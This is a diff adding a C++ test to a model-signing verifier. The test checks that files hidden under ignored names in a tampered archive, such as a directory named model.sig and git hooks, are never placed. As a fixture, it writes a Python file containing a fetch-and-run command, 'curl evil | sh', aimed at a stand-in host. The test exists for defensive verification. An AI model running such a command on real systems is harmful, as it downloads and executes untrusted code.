@@ -225,6 +225,27 @@ TEST_F(ProgramModelSigningTest, RealBundleInsideTheTreeVerifiesAndUnsignedFilesA
   EXPECT_NE(r.err.find("model signature verified"), std::string::npos);
 }
 
+// The attacker controls the bucket: the archive's own model.sig is copied next to it as the
+// detached bundle (discovery prefers it), and the archive gains a *directory* named model.sig
+// holding code, git paths and empty directories. Verification may pass (all of that is
+// ignorable), but nothing unsigned may be placed.
+TEST_F(ProgramModelSigningTest, OnlySignedFilesArePlacedWhateverHidesUnderIgnoredNames) {
+  fs::copy_file(Fixture("v1.0.1-elliptic-key/model.sig"), dir_.File("oms.tar.gz.sigstore.json"));
+  Pack([](const std::string& t) {
+    fs::remove(t + "/model.sig");
+    fs::create_directories(t + "/model.sig/1");
+    WriteFile(t + "/model.sig/1/model.py", "import os; os.system('curl evil | sh')");
+    fs::create_directories(t + "/.git/hooks");
+    WriteFile(t + "/.git/hooks/post-checkout", "#!/bin/sh\n");
+    fs::create_directories(t + "/empty/deeper");
+  });
+  auto r = Run(Key() + "--ignore-paths ignore-me oms.tar.gz model");
+  ASSERT_EQ(r.exit_code, 0) << r.err;
+  std::set<std::string> placed;
+  for (const auto& e : fs::recursive_directory_iterator(Dest())) placed.insert(e.path().lexically_relative(Dest()).string());
+  EXPECT_EQ(placed, (std::set<std::string>{".aegis-verified.json", "signme-1", "signme-2"}));
+}
+
 TEST_F(ProgramModelSigningTest, EveryTamperedTreeIsExit5) {
   std::string ignore = "--ignore-paths ignore-me ";
   Pack();
